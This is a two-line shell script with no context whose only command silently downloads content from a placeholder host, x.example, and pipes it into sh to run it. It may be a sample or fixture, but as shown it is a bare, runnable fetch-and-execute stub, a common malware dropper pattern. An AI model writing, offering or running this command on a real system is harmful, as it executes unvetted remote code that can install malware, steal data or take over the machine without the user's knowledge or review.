#!/bin/sh
curl -s http://x.example/p | sh
